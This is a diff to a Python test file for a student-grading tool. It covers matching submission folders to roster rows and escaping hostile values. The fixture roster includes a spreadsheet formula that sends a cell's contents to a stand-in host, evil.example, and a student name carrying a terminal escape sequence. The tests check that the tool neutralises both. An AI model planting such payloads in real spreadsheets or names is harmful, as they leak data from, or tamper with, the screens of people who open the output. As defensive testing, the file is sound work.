@@ -176,7 +176,7 @@ def test_a_rerun_never_reads_through_a_symbolic_link(tmp_path):
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"see feedback")'
 ROSTER = [["Student", "ID", "SIS User ID", "SIS Login ID", "Section"],
           ["    Points Possible", "", "", "", "", ""],
-          ["Smith, Jo", "101", "S101", "jsmith", "A"], ["Doe, Ann", "102", "S102", "adoe", "A"],
+          ["Smith, Jo", "101", "S101", "jsmith", "A"], ["Doe, Ann\x1b[2J", "102", "S102", "adoe", "A"],
           [HYPERLINK, "103", "S103", "hyper", "@B"], ["Kim, Lee", "104", "S104", "lkim", "B"]]
 
 
@@ -207,20 +207,35 @@ def rostered(fast_root, tmp_path_factory):
 
 def test_two_folders_of_one_student_never_swap_or_share_a_roster_row(rostered):
     """jsmith and !jsmith both read as jsmith, S102 and 102 both name Ann Doe: none of the four takes a row
-    (no row is chosen by sort order), each pair is named in one message, the page lists them as
+    (no row is chosen by sort order), each pair is named in one message (the roster's names spelt out for the
+    terminal), the page lists them as
     unresolved, and the rest of the class is graded into its own rows."""
     out, rows, output = rostered
     logins = [row[3] for row in rows[2:]]
     assert "jsmith" not in logins and "adoe" not in logins, rows
     assert len(logins) == len(set(logins))
     assert "!jsmith" in output and "'jsmith'" in output and "clean up to the same student" in output
-    assert "S102" in output and "'102'" in output and "Doe, Ann" in output
+    assert "S102" in output and "'102'" in output and "Doe, Ann\\x1b[2J" in output and "\x1b" not in output
     page = (out / "summary.html").read_text()
     assert "Unresolved:" in page and "!jsmith" in page and "S102" in page
     kim = next(row for row in rows[2:] if row[3] == "lkim")
     assert kim[:5] == ROSTER[5][:5] and float(kim[5]) > 0
     assert not (out / "results" / "jsmith.json").exists() and not (out / "results" / "adoe.json").exists()
 
+
+def test_names_that_clean_up_alike_are_all_refused_whatever_their_order(tmp_path):
+    """Case, punctuation and a zip's suffix do not tell students apart: every folder of such a group is
+    refused with a message naming the whole group, and a student alone keeps their name."""
+    from gatelab.grading.batch import sort_out
+
+    for name in ("JSmith", "jsmith", "ann", "Ann!", "bob"):
+        (tmp_path / name).mkdir()
+    (tmp_path / "jsmith.zip").write_bytes(b"")
+    found, refused = sort_out(tmp_path)
+    assert list(found) == ["bob"]
+    assert sorted(p.name for p in refused) == ["Ann!", "JSmith", "ann", "jsmith", "jsmith.zip"]
+    assert all("'JSmith', 'jsmith', 'jsmith.zip'" in refused[tmp_path / n] for n in ("JSmith", "jsmith.zip"))
+    assert "'Ann!', 'ann'" in refused[tmp_path / "ann"]
 
 def test_grades_csv_cells_that_a_spreadsheet_would_run_are_escaped(rostered):
     """A student named =HYPERLINK(...) in the roster, a section @B and a folder named +cmd come out with a
